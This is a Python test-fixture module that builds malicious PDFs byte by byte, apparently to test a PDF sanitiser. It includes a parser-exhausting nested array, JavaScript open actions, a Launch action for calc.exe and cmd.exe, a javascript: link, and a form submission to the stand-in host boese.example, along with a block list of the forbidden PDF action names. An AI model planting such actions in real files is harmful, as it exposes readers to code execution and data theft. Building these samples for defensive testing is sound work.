"""Small PDFs that attack a reader or ride on one, written byte by byte (never committed as files).

Each has one page with a line of text, so that a PDF reader that survives them has something to
show."""

import io

TEXT = b"BT /F1 12 Tf 20 100 Td (Seite einer Unterlage) Tj ET"
FONT = b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"


def raw_pdf(objects, catalog=b""):
    """A PDF of the numbered objects after the first three: 1 the catalog (with `catalog` added),
    2 the page tree, 3 the page (the caller's first object, a dictionary body without `<<`)."""
    page, *others = objects
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R " + page,
        b"<< /Length %d >>\nstream\n" % len(TEXT) + TEXT + b"\nendstream",
        *others,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    )
    return out.getvalue()


def deeply_nested_pdf(depth=5_000):
    """About 10 KB: the page's resources name an array nested `depth` levels deep (object 5)."""
    return raw_pdf(
        [
            b"/Resources << /Font " + FONT[9:-3] + b" /Tiefe 5 0 R >> >>",
            b"[" * depth + b"]" * depth,
        ]
    )


SAFE_LINK = b"https://www.liga-thueringen.de/"


def pdf_with_actions():
    """A page that runs JavaScript when the file or the page opens, and links that run
    JavaScript, launch a program, send a form or import data; one plain https link besides."""
    javascript = b"<< /S /JavaScript /JS (app.alert\\('koss'\\)) >>"

    def link(action, x):
        return b"<< /Type /Annot /Subtype /Link /Rect [%d 10 %d 30] /Border [0 0 0] /A %s >>" % (
            x,
            x + 20,
            action,
        )

    return raw_pdf(
        [
            b"/Resources " + FONT + b" /AA << /O 5 0 R /C 5 0 R >> "
            b"/Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R 11 0 R 12 0 R] >>",
            javascript,  # 5
            link(b"<< /S /Launch /F (calc.exe) /Win << /F (cmd.exe) >> >>", 10),  # 6
            link(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>", 40),  # 7
            b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (senden) /Rect [70 10 90 30] "
            b"/A << /S /SubmitForm /F << /FS /URL /F (https://boese.example/) >> >> "
            b"/AA << /D 5 0 R /E 5 0 R >> >>",  # 8
            link(b"<< /S /URI /URI (" + SAFE_LINK + b") >>", 100),  # 9
            link(b"<< /S /ImportData /F (daten.fdf) >>", 130),  # 10
            link(b"5 0 R", 160),  # 11
            link(b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", 190),  # 12
            b"<< /Length 7 >>\nstream\n<xdp/> \nendstream",  # 13: an XFA form
        ],
        catalog=b"/OpenAction 5 0 R /AA << /WC 5 0 R /DP 5 0 R >> "
        b"/Names << /JavaScript << /Names [(start) 5 0 R] >> "
        b"/EmbeddedFiles << /Names [] >> >> "
        b"/AcroForm << /Fields [8 0 R] /XFA 13 0 R /NeedAppearances true >>",
    )


# What no page of a bound book may carry.
FORBIDDEN = {
    "/JS",
    "/JavaScript",
    "/Launch",
    "/SubmitForm",
    "/ImportData",
    "/AA",
    "/OpenAction",
    "/XFA",
    "/AcroForm",
    "/EmbeddedFiles",
}


def names_and_strings(reader):
    """Every name and string in the PDF, reached from its trailer through every reference."""
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

    seen, found, stack = set(), set(), [reader.trailer]
    while stack:
        item = stack.pop()
        if isinstance(item, IndirectObject):
            if (item.idnum, item.generation) in seen:
                continue
            seen.add((item.idnum, item.generation))
            item = item.get_object()
        if isinstance(item, DictionaryObject):
            found.update(str(key) for key in item)
            stack.extend(item.values())
        elif isinstance(item, ArrayObject):
            stack.extend(item)
        elif item is not None:
            found.add(str(item))
    return found
